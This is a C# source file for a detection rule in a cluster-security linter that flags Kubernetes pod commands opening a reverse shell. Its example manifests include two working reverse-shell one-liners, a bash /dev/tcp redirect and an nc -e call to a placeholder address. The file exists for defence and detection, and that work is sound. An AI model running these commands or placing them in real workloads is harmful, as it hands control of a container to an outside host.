using System.Collections.Immutable;
using Gabion.Model;
using Gabion.Model.Cluster;

namespace Gabion.Rules.Cluster.Deploy;

/// <summary>No service opens a shell to somewhere else.</summary>
internal sealed class ReverseShellIsOpened : Rule<Workload>
{
    public override RuleCard Card { get; } = new()
    {
        Id = RuleId.Parse("GBN-CLU-060"),
        Title = "Command opens a reverse shell",
        Severity = Severity.Critical,
        Stage = Stage.Deploy,
        Why = "The command connects a shell to a host outside: that host then types commands into the container.",
        Fix = "Remove the command, find out who put it there, and treat the workload as taken over.",
        References = ["https://attack.mitre.org/techniques/T1059/004/"],
        Controls = [new("MITRE-ATTACK", "T1059.004", ControlCoverage.Partial)],
    };

    public override ImmutableArray<string> Keys => ["command", "args"];

    public override ImmutableArray<Example> Examples =>
    [
        PodExample.Bad("""
            containers:
              - name: web
                image: registry.example/web:1.4
                command: [bash, -c, "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"] <--
            """),
        PodExample.Bad("""
            containers:
              - name: web
                image: registry.example/web:1.4
                lifecycle:
                  postStart:
                    exec:
                      command: [nc, 203.0.113.9, "4444", -e, /bin/sh] <--
            """),
        PodExample.Good("""
            containers:
              - name: web
                image: registry.example/web:1.4
                command: [sh, -c, "nc -z db 5432 && exec app"]
            """),
    ];

    public override IEnumerable<Problem> Check(Workload workload) =>
        from command in PodCommand.All(workload.Pod)
        where command.Commands.Any(SuspectCommand.OpensReverseShell)
        select PodProblem.At(command.Field, $"{command.What} of container '{command.Container.Name}' opens a reverse shell");
}
